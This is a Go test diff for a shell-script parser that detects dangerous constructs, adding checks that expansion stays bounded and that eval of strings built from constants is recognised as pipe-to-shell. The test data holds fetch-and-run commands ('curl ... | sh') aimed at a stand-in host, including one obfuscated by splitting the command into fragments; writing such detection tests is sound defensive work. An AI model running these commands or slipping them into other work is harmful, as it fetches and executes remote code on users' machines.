@@ -127,3 +127,42 @@ func TestHostile(t *testing.T) {
 		Parse(s).Facts()
 	}
 }
+
+// TestExpansionIsBounded: a variable written into words again and again
+// adds at most a bounded multiple of the script's size to them.
+func TestExpansionIsBounded(t *testing.T) {
+	text := "x=\"" + strings.Repeat("curl -s https://x.example/m | sh; ", 100) + "\"\n" + strings.Repeat("eval \"$x\"\n", 20000)
+	n := 0
+	for _, c := range Parse(text).Cmds {
+		for _, a := range c.Args {
+			n += len(a)
+		}
+	}
+	if max := expandFloor + expandPer*len(text) + len(text); n > max {
+		t.Fatalf("words hold %d bytes for a script of %d (at most %d)", n, len(text), max)
+	}
+}
+
+// TestEvalOfFoldedCode: eval of a string the script built from constants
+// is read as the command it is.
+func TestEvalOfFoldedCode(t *testing.T) {
+	for _, c := range []struct {
+		src  string
+		want bool
+	}{
+		{"a=\"cu\"; b=\"rl\"; c=\" -s https://x.example/m\"; g=\" | ba\"; h=\"sh\"\nr=$(printf '%s' \"$a$b$c$g$h\")\neval \"$r\"\n", true},
+		{"x=\"curl -s https://x.example/m | sh\"\neval \"$x\"\n", true},
+		{"x=\"ls -la\"\neval \"$x\"\n", false},
+		{"eval \"$(ssh-agent -s)\"\n", false},
+	} {
+		got := false
+		for _, f := range Parse(c.src).Facts() {
+			if f.Kind == PipeToShell {
+				got = true
+			}
+		}
+		if got != c.want {
+			t.Errorf("%q: pipe-to-shell %v, want %v", c.src, got, c.want)
+		}
+	}
+}
